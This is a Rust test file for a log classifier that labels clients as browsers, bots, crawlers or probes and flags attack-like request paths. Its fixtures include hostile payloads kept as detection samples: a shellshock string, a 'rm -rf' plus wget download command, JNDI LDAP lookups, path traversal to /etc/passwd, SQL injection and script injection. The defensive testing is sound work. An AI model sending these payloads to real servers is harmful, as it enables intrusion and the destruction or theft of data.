//! Who is at the door is told from what an event says, and what was sent stays as it was.

use std::net::IpAddr;
use std::sync::Arc;

use event::{ADDED, Added, Batch, Timestamp, Value as Cell};
use intake::classify::{Classifier, Kind, Known, Settings, agent};
use intake::{Limits, native};
use proptest::prelude::*;
use serde_json::{Map, Value, json};

use crate::native::batch_documents;

const FIREFOX: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0";
const GOOGLEBOT: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";

fn rules(settings: Value) -> Classifier {
    Classifier::new(&Settings::parse(&settings).unwrap())
}

fn decoded(events: &Value) -> Batch {
    native(events.to_string().as_bytes(), Limits::default(), Timestamp::from_micros(0)).batch
}

/// What is added to an event, and that nothing else is changed.
#[track_caller]
fn added(rules: &Classifier, event: &Value) -> Value {
    let before = decoded(event);
    let after = rules.apply(before.clone());
    assert_eq!(rules.apply(after.clone()), after, "once is enough: {event}");
    let (before, mut after) = (batch_documents(&before).remove(0), batch_documents(&after).remove(0));
    let members = after.as_object_mut().unwrap();
    for (key, value) in before.as_object().unwrap() {
        assert_eq!(members.shift_remove(key).as_ref(), Some(value), "{key} of {event}");
    }
    after
}

#[track_caller]
fn check(event: Value, expected: Value) {
    assert_eq!(added(&rules(json!(true)), &event), expected, "{event}");
}

/// `kind name, system` of a user agent.
#[track_caller]
fn says(text: &str, expected: &str) {
    let agent = agent(text);
    let os = agent.os().map(|os| format!(", {os}")).unwrap_or_default();
    assert_eq!(format!("{} {}{os}", agent.kind().name(), agent.name().unwrap_or("-")), expected, "{text}");
}

#[test]
fn browsers() {
    for (text, expected) in [
        (FIREFOX, "browser Firefox 128, Windows 10"),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
            "browser Chrome 126, Mac OS X 10.15",
        ),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
            "browser Safari 17, Mac OS X 14.5",
        ),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
            "browser Mobile Safari 17, iOS 17.5",
        ),
        (
            "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
            "browser Chrome Mobile 126, Android 14",
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.87",
            "browser Edge 126, Windows 10",
        ),
        (
            "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
            "browser Firefox 127, Ubuntu",
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 OPR/111.0.0.0",
            "browser Opera 111, Linux",
        ),
        ("Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko", "browser IE 11, Windows 10"),
        ("Opera/9.80 (Windows NT 6.1; U; en) Presto/2.8.131 Version/11.11", "browser Opera 11, Windows 7"),
        (
            "Mozilla/5.0 (Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0",
            "browser Firefox Mobile 127, Android 14",
        ),
        (
            "Mozilla/5.0 (Linux; Android 13; CUBOT NOTE 50) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
            "browser Chrome Mobile 120, Android 13",
        ),
        (
            "Mozilla/5.0 (Linux; Android 11; Lenovo K6 Note) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
            "browser Chrome Mobile 120, Android 11",
        ),
        ("Lynx/2.9.0 libwww-FM/2.14 SSL-MM/1.4.1", "browser Lynx 2"),
    ] {
        says(text, expected);
    }
}

#[test]
fn programs() {
    for (text, expected) in [
        ("curl/8.0", "bot curl 8"),
        ("Wget/1.21.4", "bot Wget 1"),
        ("python-requests/2.31.0", "bot Python Requests 2"),
        ("Python-urllib/3.11", "bot Python-urllib 3"),
        ("python-httpx/0.27.0", "bot python-httpx 0"),
        ("Go-http-client/1.1", "bot Go-http-client 1"),
        ("Apache-HttpClient/4.5.14 (Java/17.0.9)", "bot Apache-HttpClient 4"),
        ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "bot node-fetch 1"),
        ("axios/1.6.8", "bot axios 1"),
        ("PostmanRuntime/7.39.0", "bot Postman"),
        ("GuzzleHttp/7", "bot GuzzleHttp 7"),
        ("kube-probe/1.29", "bot Kubernetes"),
        ("ELB-HealthChecker/2.0", "bot AWS ELB"),
        ("Prometheus/2.51.0", "bot Prometheus"),
        ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "bot UptimeRobot"),
        ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "bot Pingdom"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36",
            "bot Headless Chrome, Linux",
        ),
        ("Stripe/1.0 (+https://stripe.com/docs/webhooks)", "bot Stripe"),
        ("GitHub-Hookshot/044aadd", "bot GitHub"),
        ("shop-sync/3.1 (linux)", "bot shop-sync 3, Linux"),
        ("Mozilla/5.0", "bot -"),
        ("okhttp/4.12.0", "app okhttp 4"),
        ("Dart/3.3 (dart:io)", "app Dart 3"),
        ("Shop/7.1 CFNetwork/1410.0.3 Darwin/22.6.0", "app Shop 7, iOS 16"),
        ("Shop/2.4.1 (iPhone; iOS 17.5; Scale/3.00)", "app Shop 2, iOS 17.5"),
        ("Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A)", "app Dalvik, Android 13"),
    ] {
        says(text, expected);
    }
}

#[test]
fn crawlers_and_scanners() {
    for (text, expected) in [
        (GOOGLEBOT, "crawler Googlebot"),
        (
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "crawler Googlebot",
        ),
        ("Googlebot-Image/1.0", "crawler Googlebot"),
        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "crawler bingbot"),
        ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "crawler YandexBot"),
        ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "crawler Baiduspider"),
        ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "crawler DuckDuckBot"),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            "crawler GPTBot",
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
            "crawler ClaudeBot",
        ),
        ("CCBot/2.0 (https://commoncrawl.org/faq/)", "crawler CCBot"),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "crawler facebookexternalhit"),
        ("Twitterbot/1.0", "crawler Twitterbot"),
        ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "crawler Slackbot"),
        ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "crawler AhrefsBot"),
        ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "crawler SemrushBot"),
        ("Mozilla/5.0 (compatible; ZebraBot/1.0; +http://zebra.example/bot)", "crawler ZebraBot"),
        ("zebra-spider/1.0", "crawler zebra-spider"),
        ("Scrapy/2.11.1 (+https://scrapy.org)", "crawler Scrapy"),
        ("sqlmap/1.8#stable (https://sqlmap.org)", "probe sqlmap"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", "probe Nikto"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "probe Nmap"),
        ("Mozilla/5.0 zgrab/0.x", "probe ZGrab"),
        ("() { :; }; /bin/bash -c 'id'", "probe shellshock"),
    ] {
        says(text, expected);
    }
}

#[test]
fn what_is_added() {
    check(
        json!({"method": "GET", "path": "/cart", "user_agent": FIREFOX, "ip": "203.0.113.9"}),
        json!({"client": {"kind": "browser", "name": "Firefox 128", "os": "Windows 10"}}),
    );
    check(
        json!({"method": "GET", "path": "/courses/x/video.mp4", "status": 404, "user_agent": GOOGLEBOT, "ip": "203.0.113.50"}),
        json!({"client": {"kind": "crawler", "name": "Googlebot", "verified": false}}),
    );
    check(
        json!({"request": "GET /wp-login.php", "ip": "198.51.100.7", "status": 404}),
        json!({"client": {"kind": "probe"}, "security": {"probe": "wordpress"}}),
    );
    check(
        json!({"method": "GET", "path": "/.env", "userAgent": FIREFOX}),
        json!({"client": {"kind": "probe", "name": "Firefox 128", "os": "Windows 10"}, "security": {"probe": "env"}}),
    );
    check(
        json!({"user_agent": {"original": "sqlmap/1.8"}}),
        json!({"client": {"kind": "probe", "name": "sqlmap"}, "security": {"probe": "scanner"}}),
    );
    check(
        json!({"url": "https://shop.example/search?q=1'+union+select+1", "user_agent": "-"}),
        json!({"client": {"kind": "probe"}, "security": {"probe": "sql"}}),
    );
    check(
        json!({"event": "login_failed", "user": "bob", "ip": "203.0.113.9"}),
        json!({"security": {"login_outcome": "failed"}}),
    );
    check(
        json!({"event": "login", "stream": "LOGIN", "level": "notice"}),
        json!({"security": {"login_outcome": "succeeded"}}),
    );
    check(
        json!({"method": "POST", "path": "/api/login", "status": 401}),
        json!({"security": {"login_outcome": "failed"}}),
    );
    for event in [
        json!({"message": "GET /wp-login.php", "event": "request"}),
        json!({"event": "file_read", "path": "/srv/app/.git/config"}),
        json!({"url": "file:///etc/passwd", "user_agent": ""}),
        json!({"path": 7, "user_agent": null, "url": ["/wp-login.php"], "ip": "::1"}),
    ] {
        check(event, json!({}));
    }
}

#[test]
fn what_was_sent_stays() {
    let (own, probe) = (json!({"kind": "robot"}), json!({"probe": "git"}));
    for client in [own.clone(), json!("shop-7"), json!(null), json!([1]), json!({})] {
        check(
            json!({"client": client, "user_agent": FIREFOX, "path": "/.git/config"}),
            json!({"security": {"probe": "git"}}),
        );
    }
    check(json!({"client.kind": "x", "user_agent": FIREFOX}), json!({}));
    check(json!({"client.kind.of": "x", "user_agent": FIREFOX}), json!({}));
    check(json!({"clients": 7, "user_agent": FIREFOX}), firefox());
    check(
        json!({"client.address": "x", "user_agent": "curl/8.0"}),
        json!({"client": {"kind": "bot", "name": "curl 8"}}),
    );
    for security in [probe.clone(), json!("high"), json!({"probe": {"x": 1}}), json!({"event": 7})] {
        check(
            json!({"security": security, "user_agent": "curl/8.0", "path": "/.git/config"}),
            json!({"client": {"kind": "probe", "name": "curl 8"}}),
        );
    }
    check(json!({"client": own, "security": probe, "user_agent": FIREFOX, "path": "/.env"}), json!({}));
}

fn firefox() -> Value {
    json!({"client": {"kind": "browser", "name": "Firefox 128", "os": "Windows 10"}})
}

/// Documents of Elasticsearch's schema say where a client is, and not what it is.
#[test]
fn what_was_sent_of_a_client_is_completed() {
    let rules = rules(json!(true));
    let check = |client: Value, agent: &str, expected: Value| {
        let event = json!({"client": client, "user_agent": agent, "ip": "203.0.113.9"});
        let batch = rules.apply(decoded(&event));
        assert_eq!(rules.apply(batch.clone()), batch, "once is enough: {event}");
        assert_eq!(batch_documents(&batch)[0]["client"], expected, "{event}");
    };
    check(
        json!({"ip": "203.0.113.9", "geo": {"name": "Rome"}}),
        FIREFOX,
        json!({"ip": "203.0.113.9", "geo": {"name": "Rome"}, "kind": "browser", "name": "Firefox 128", "os": "Windows 10"}),
    );
    check(json!({"name": "shop-7"}), FIREFOX, json!({"name": "shop-7", "kind": "browser", "os": "Windows 10"}));
    check(
        json!({"os": {"name": "BeOS"}}),
        FIREFOX,
        json!({"os": {"name": "BeOS"}, "kind": "browser", "name": "Firefox 128"}),
    );
    check(
        json!({"name": null, "verified": true}),
        GOOGLEBOT,
        json!({"name": null, "verified": true, "kind": "crawler"}),
    );
    check(json!({"ip": "x", "kind": "robot"}), FIREFOX, json!({"ip": "x", "kind": "robot"}));
    check(json!({"kind": {"of": 7}}), FIREFOX, json!({"kind": {"of": 7}}));
}

#[test]
fn events_of_one_request() {
    let events: Vec<Value> = (0..40)
        .map(|number| match number % 4 {
            0 => json!({"n": number}),
            1 => json!({"n": number, "user_agent": "curl/8.0"}),
            2 => json!({"n": number, "client": "own", "user_agent": "curl/8.0"}),
            _ => json!({"n": number, "path": "/wp-admin/", "method": "GET"}),
        })
        .collect();
    let batch = rules(json!(true)).apply(decoded(&json!(events)));
    for (number, document) in batch_documents(&batch).iter().enumerate() {
        let kind = &document["client"]["kind"];
        let expected = [json!(null), json!("bot"), json!(null), json!("probe")];
        assert_eq!((kind, &document["n"]), (&expected[number % 4], &json!(number)), "{document}");
    }
}

#[test]
fn probes() {
    let rules = rules(json!(true));
    let check = |target: &str, expected: &str| {
        assert_eq!(rules.probe(target, None), Some(expected), "{target}");
    };
    for (target, class) in [
        ("/wp-login.php", "wordpress"),
        ("/blog/wp-login.php?action=register", "wordpress"),
        ("//xmlrpc.php", "wordpress"),
        ("/WP-ADMIN/install.php", "wordpress"),
        ("/wp-content/plugins/x/readme.txt", "wordpress"),
        ("/.env", "env"),
        ("/api/.env.production", "env"),
        ("/.env~", "env"),
        ("/%2eenv", "env"),
        ("/.git/config", "git"),
        ("/.git/HEAD", "git"),
        ("/.svn/entries", "version-control"),
        ("/.aws/credentials", "credentials"),
        ("/.ssh/id_rsa", "credentials"),
        ("/.DS_Store", "config"),
        ("/.vscode/sftp.json", "config"),
        ("/config.json", "config"),
        ("/backup.sql.gz", "backup"),
        ("/index.php.bak", "backup"),
        ("/phpMyAdmin-4.9.7/index.php", "phpmyadmin"),
        ("/phpmyadmin2/", "phpmyadmin"),
        ("/pma/", "phpmyadmin"),
        ("/phpinfo.php", "php"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "php"),
        ("/telescope/requests", "php"),
        ("/_profiler/phpinfo", "php"),
        ("/?allow_url_include=1", "php"),
        ("/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.1/x", "shell"),
        ("/actuator/env", "java"),
        ("/actuator/heapdump", "java"),
        ("/solr/admin/info/system?wt=json", "java"),
        ("/manager/html", "java"),
        ("/console/login/LoginForm.jsp", "java"),
        ("/?x=${jndi:ldap://203.0.113.1/a}", "jndi"),
        ("/?x=$%7Bjndi:ldap://203.0.113.1/a%7D", "jndi"),
        ("/owa/auth/logon.aspx", "exchange"),
        ("/autodiscover/autodiscover.json?@x", "exchange"),
        ("/ecp/Current/exporttool/x", "exchange"),
        ("/HNAP1/", "device"),
        ("/boaform/admin/formLogin", "device"),
        ("/cgi-bin/luci/;stok=/locale", "device"),
        ("/server-status", "server"),
        ("/_cat/indices", "server"),
        ("/a/../../etc/passwd", "traversal"),
        ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "device"),
        ("/x/%2e%2e/%2e%2e/boot", "traversal"),
        ("/x/%252e%252e%252f%252e%252e/boot", "traversal"),
        ("/x/..%5c..%5cboot", "traversal"),
        ("/download?file=/etc/passwd", "traversal"),
        ("/search?q=<script>alert(1)</script>", "script"),
        ("/search?q=%3Cscript%3E", "script"),
        ("/item?id=1 UNION SELECT 1,2", "sql"),
        ("/item?id=1%20union%20all%20select", "sql"),
        ("https://shop.example/wp-login.php", "wordpress"),
    ] {
        check(target, class);
    }
    assert_eq!(rules.probe("/search", Some("q=%27%20or%201=1")), Some("sql"));
}

/// What honest people ask for, near to what others do.
const HONEST: &[&str] = &[
    "/",
    "",
    "*",
    "/environment",
    "/.well-known/security.txt",
    "/.well-known/acme-challenge/x",
    "/envoy/config",
    "/git/repos",
    "/x/shop.git/info/refs",
    "/.github",
    "/api/config.json.schema",
    "/api/v1/config.json",
    "/configuration",
    "/console",
    "/console/jobs",
    "/shells",
    "/shell-and-tube",
    "/admin",
    "/admin/users",
    "/administrator/users",
    "/login",
    "/login.php",
    "/index.php",
    "/owantje",
    "/ecpay",
    "/owners",
    "/actuator/health",
    "/actuator/info",
    "/actuator/prometheus",
    "/metrics",
    "/healthz",
    "/manager",
    "/solr",
    "/phpbb/viewtopic.php?t=1",
    "/backups",
    "/backup",
    "/docs/backup.sql.html",
    "/dump",
    "/db",
    "/sql",
    "/static/js/app.env.js",
    "/pmap",
    "/wp",
    "/wp-contents-of-page",
    "/blog/wordpress-tips",
    "/my.env.example",
    "/testing.php",
    "/info",
    "/servers-status",
    "/search?q=union of selected sets",
    "/search?q=environment+.env",
    "/search?q=wp-login.php",
    "/go?to=/login",
    "/a..b/c",
    "/a/...",
    "/v1..v2",
    "/compare/v1.0...v1.1",
    "/%7Euser/",
    "/caf%C3%A9",
    "/100%",
    "/%",
    "/%2",
    "/50%25",
    "/files/report%20final.pdf",
    "/eval",
    "/evaluate(1)",
    "/courses/x/video.mp4",
    "/checkout?email=a&step=3",
    "/cgi",
    "/static/cgi-binary.zip",
    "/api/v2/objects",
    "/graphql",
    "/sdk/v1/app.js",
    "/telescopes",
    "/package.json",
    "/sites/default",
    "/downloads",
    "/api/sessions",
    "/streaming/hls/1.ts",
    "/a;b=c/d",
];

#[test]
fn honest_paths() {
    let rules = rules(json!(true));
    for target in HONEST {
        assert_eq!(rules.probe(target, None), None, "{target}");
    }
}

#[test]
fn own_patterns_and_exceptions() {
    let rules = rules(json!({
        "probes": {"trap": ["/hidden-door", "backdoor*", "*.trap", "*needle*"]},
        "except": ["wordpress", "/config.json", "/.git*", "scanner"],
    }));
    for (target, expected) in [
        ("/hidden-door/x", Some("trap")),
        ("/a/hidden-door", None),
        ("/a/backdoor-7", Some("trap")),
        ("/a/x.trap?y", Some("trap")),
        ("/a?b=NEEDLE", Some("trap")),
        ("/wp-login.php", None),
        ("/config.json", None),
        ("/config.yml", Some("config")),
        ("/.git/config", None),
    ] {
        assert_eq!(rules.probe(target, None), expected, "{target}");
    }
    let event = json!({"user_agent": "sqlmap/1.8"});
    assert_eq!(added(&rules, &event), json!({"client": {"kind": "bot", "name": "sqlmap"}}));
    let off = Classifier::new(&Settings::parse(&json!(false)).unwrap());
    assert_eq!(added(&off, &json!({"user_agent": FIREFOX, "path": "/.env"})), json!({}));
}

#[derive(Debug)]
struct Answers;

impl Known for Answers {
    fn is_of(&self, crawler: &str, ip: IpAddr) -> Option<bool> {
        (crawler != "Googlebot").then(|| crawler == "bingbot" && ip.to_string() == "157.55.39.1")
    }
}

#[test]
fn addresses_of_crawlers() {
    let rules = rules(json!({"crawlers": {"googlebot": ["66.249.64.0/19", "2001:4860:4801::/48", "192.0.2.7"]}}));
    let rules = rules.with_known(Arc::new(Answers));
    let bing = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
    for (agent, ip, expected) in [
        (GOOGLEBOT, "66.249.66.1", json!(true)),
        (GOOGLEBOT, "::ffff:66.249.66.1", json!(true)),
        (GOOGLEBOT, "2001:4860:4801:10::1", json!(true)),
        (GOOGLEBOT, "192.0.2.7", json!(true)),
        // Not known, or not yet.
        (GOOGLEBOT, "203.0.113.50", json!(null)),
        (GOOGLEBOT, "66.249.66.1:80", json!(false)),
        (GOOGLEBOT, "", json!(false)),
        (bing, "157.55.39.1", json!(true)),
        (bing, "66.249.66.1", json!(false)),
        ("Twitterbot/1.0", "66.249.66.1", json!(false)),
    ] {
        let found = added(&rules, &json!({"user_agent": agent, "ip": ip}));
        assert_eq!(found["client"]["verified"], expected, "{agent} {ip}");
    }
}

#[test]
fn settings_say_what_is_wrong() {
    for (settings, expected) in [
        (json!("yes"), "expected true, false, or { watch, probes, except, crawlers }"),
        (json!({"zebra": 1}), "unknown key \"zebra\""),
        (json!({"probes": ["/x"]}), "expected probes = {"),
        (json!({"probes": {"a b": ["/x"]}}), "the class \"a b\""),
        (json!({"probes": {"a": ["/"]}}), "found \"/\""),
        (json!({"probes": {"a": ["/x*y"]}}), "only at the beginning and the end"),
        (json!({"probes": {"a": vec!["/x"; 501]}}), "501 are more than 500"),
        (json!({"except": ["zebra"]}), "the classes are wordpress, env, git"),
        (json!({"except": [7]}), "expected except = ["),
        (json!({"crawlers": {"Googlebot": ["66.249.64.0/99"]}}), "\"66.249.64.0/99\" is no range"),
    ] {
        let error = Settings::parse(&settings).unwrap_err().to_string();
        assert!(error.contains(expected), "{settings}: {error}");
    }
}

#[test]
fn redaction_keeps_what_was_found() {
    use intake::redact::{Level, Redact};
    let event = json!({"method": "POST", "path": "/login", "status": 401, "user_agent": GOOGLEBOT, "ip": "203.0.113.50", "event": "login_failed"});
    let batch = rules(json!(true)).apply(decoded(&event));
    let strict = Redact::new(&intake::redact::Settings::default(), Level::Strict, None).unwrap();
    let (batch, _) = strict.apply(batch);
    let document = batch_documents(&batch).remove(0);
    assert_eq!(document["client"], json!({"kind": "crawler", "name": "Googlebot", "verified": false}));
    assert_eq!(document["security"], json!({"login_outcome": "failed"}));
    assert_ne!(document["ip"], event["ip"]);
}

/// A document of Elasticsearch is shown as it was sent: what was added is marked.
#[test]
fn documents_know_what_was_added() {
    let body = "{\"index\":{\"_id\":\"1\"}}\n{\"path\":\"/.env\",\"user_agent\":\"curl/8.0\",\"security\":{\"x\":1}}\n{\"index\":{\"_id\":\"2\"}}\n{\"path\":\"/.env\",\"method\":\"GET\",\"client\":{\"ip\":\"::1\"}}\n";
    let bulk = intake::elasticsearch::bulk(body.as_bytes(), Some("shop"), Limits::default(), Timestamp::from_micros(0));
    let batch = rules(json!(true)).apply(bulk.parts[0].decoded.batch.clone());
    let marks: Vec<Vec<&str>> = batch
        .rows()
        .map(|row| {
            let paths: Vec<(&str, Cell<'_>)> =
                row.fields().map(|field| (&*batch.keys()[field.key as usize], field.value)).collect();
            let marks: Vec<Added> =
                paths.iter().filter(|(path, _)| *path == ADDED).map(|(_, mark)| Added::read(*mark)).collect();
            assert_eq!(marks.len(), 1);
            paths.iter().map(|(path, _)| *path).filter(|path| marks[0].has(path)).collect()
        })
        .collect();
    let class = |keys: &[&'static str]| [&["stream", "user"][..], keys].concat();
    assert_eq!(marks[0], class(&["client.kind", "client.name"]));
    assert_eq!(marks[1], [&class(&[])[..], &["ip", "client.kind", "security.probe"]].concat());
}

/// What an event has under `client` without what was added to it.
fn without_ours(is: &Value, was: &Value) -> Value {
    let (Value::Object(is), Value::Object(was)) = (is, was) else { return is.clone() };
    let ours = |key: &str| ["kind", "name", "os", "verified"].contains(&key);
    let kept = is.iter().filter(|(key, _)| was.contains_key(*key) || !ours(key));
    Value::Object(kept.map(|(key, value)| (key.clone(), value.clone())).collect())
}

fn value() -> impl Strategy<Value = Value> {
    let text = prop_oneof![
        any::<String>().prop_map(Value::String),
        "(GET|POST|/wp-login.php|/\\.env|/a\\?b=<script|curl/8\\.0|Googlebot/2\\.1|login_failed|LOGIN|203\\.0\\.113\\.9|https://x/\\.git/config)".prop_map(Value::String),
        any::<i32>().prop_map(|number| json!(number)),
        Just(json!(401)),
        Just(Value::Null),
        Just(json!([])),
    ];
    text.prop_recursive(2, 8, 3, |inner| {
        proptest::collection::vec((key(), inner), 0..3).prop_map(|members| Value::Object(members.into_iter().collect()))
    })
}

fn key() -> impl Strategy<Value = String> {
    prop_oneof![
        "(user_agent|userAgent|path|url|ip|status|method|query|event|stream|level|message)",
        "(client|security|client\\.kind|security\\.probe|kind|name|os|verified|probe|login|ip|_added)",
        "[a-c._\\\\]{0,3}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]

    #[test]
    fn any_events_keep_what_they_have(events in proptest::collection::vec(proptest::collection::vec((key(), value()), 0..7), 1..6)) {
        let events: Vec<Map<String, Value>> = events.into_iter().map(|members| members.into_iter().collect()).collect();
        let before = decoded(&json!(events));
        let rules = rules(json!(true));
        let after = rules.apply(before.clone());
        prop_assert_eq!(&rules.apply(after.clone()), &after);
        prop_assert_eq!(after.len(), before.len());
        for ((old, new), (was, is)) in before.rows().zip(after.rows()).zip(batch_documents(&before).iter().zip(batch_documents(&after))) {
            prop_assert_eq!((old.id, old.timestamp), (new.id, new.timestamp));
            let is = is.as_object().unwrap();
            for (key, value) in was.as_object().unwrap() {
                let kept = is.get(key).filter(|_| key != "client").map_or_else(|| without_ours(&is[key], value), Value::clone);
                prop_assert_eq!(&kept, value, "{} of {}", key, was);
            }
            prop_assert!(is.keys().all(|key| was.get(key).is_some() || key == "client" || key == "security"));
        }
    }

    #[test]
    fn any_text_is_some_agent(text in "(Mozilla/|curl/|[a-zA-Z]{0,8})?.{0,60}(bot|Android|iPhone|/[0-9.]{1,9}|CFNetwork/)?.{0,20}") {
        let agent = agent(&text);
        prop_assert!(Kind::ALL.contains(&agent.kind()));
        prop_assert!(agent.name().unwrap_or_default().len() <= 64);
    }

    #[test]
    fn any_text_is_a_probe_or_none(target in "/?.{0,40}(%|%2|%2e|\\.\\.|wp-|\\.env|\\\\)?.{0,20}", query: Option<String>) {
        let rules = rules(json!({"probes": {"own": ["ä*", "*ß"]}}));
        let _ = rules.probe(&target, query.as_deref());
    }
}
